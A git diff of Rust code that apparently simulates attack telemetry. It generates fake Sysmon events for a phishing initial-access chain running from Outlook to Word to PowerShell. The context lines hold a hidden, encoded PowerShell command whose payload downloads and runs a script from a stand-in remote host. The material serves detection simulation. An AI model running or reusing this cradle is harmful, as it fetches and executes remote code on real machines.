@@ -200,16 +200,60 @@ impl Attack {
             });
         };
 
-        // Initial access: a phishing document starts an encoded PowerShell.
+        // Initial access: Outlook saves the phishing attachment (Sysmon's
+        // file creation), Word opens it, the macro starts an encoded PowerShell.
         if in_hour(self.t_initial) {
             let t = self.t_initial;
             self.hosts.insert(ws);
-            win(world, recs, t, ws, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, &[
-                ("Image", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into()),
-                ("CommandLine", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\Timeplan_januar.docm\"".into()),
-                ("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".into()),
-                ("User", user.clone()),
-            ], tag("initial-access", "T1566.001", &ws_name, &v.user));
+            let doc = format!(
+                "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7X2K1LM\\Timeplan_januar.docm",
+                v.user
+            );
+            win(
+                world,
+                recs,
+                t,
+                ws,
+                "Microsoft-Windows-Sysmon/Operational",
+                "Microsoft-Windows-Sysmon",
+                11,
+                &[
+                    (
+                        "Image",
+                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".into(),
+                    ),
+                    ("TargetFilename", doc.clone()),
+                    ("User", user.clone()),
+                ],
+                tag("initial-access", "T1566.001", &ws_name, &v.user),
+            );
+            win(
+                world,
+                recs,
+                t + 8 * SECOND,
+                ws,
+                "Microsoft-Windows-Sysmon/Operational",
+                "Microsoft-Windows-Sysmon",
+                1,
+                &[
+                    (
+                        "Image",
+                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into(),
+                    ),
+                    (
+                        "CommandLine",
+                        format!(
+                            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{doc}\""
+                        ),
+                    ),
+                    (
+                        "ParentImage",
+                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".into(),
+                    ),
+                    ("User", user.clone()),
+                ],
+                tag("initial-access", "T1566.001", &ws_name, &v.user),
+            );
             win(world, recs, t + 20 * SECOND, ws, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, &[
                 ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into()),
                 ("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHQAZQBsAGUAbQBlAHQAcgB5AC0AcwB5AG4AYwAuAG4AZQB0AC8AYQAnACkA".into()),
